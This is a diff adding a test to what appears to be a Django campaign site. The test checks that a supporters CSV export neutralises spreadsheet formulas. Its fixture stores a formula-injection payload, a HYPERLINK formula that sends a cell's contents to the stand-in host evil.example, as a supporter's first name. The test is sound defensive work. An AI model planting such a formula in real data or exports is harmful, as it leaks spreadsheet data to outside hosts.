@@ -58,3 +58,18 @@ def test_deleting_the_campaign_is_refused_until_the_purge(admin_client, campaign
     assert not CampaignPage.objects.filter(pk=campaign.pk).exists()
     assert Supporter.objects.count() == 10
     assert {row.campaign_label for row in Supporter.objects.all()} == {campaign.title}
+
+
+def test_supporters_csv_export_neutralises_formulas(admin_client, campaign):
+    Supporter.objects.create(
+        campaign=campaign,
+        campaign_key=campaign.translation_key,
+        first_name='=HYPERLINK("http://evil.example/?"&B2,"x")',
+        email="s@example.org",
+        language="sq",
+        status=SupporterStatus.CONFIRMED,
+    )
+    response = admin_client.get("/admin/supporters/?export=csv")
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    text = content.decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
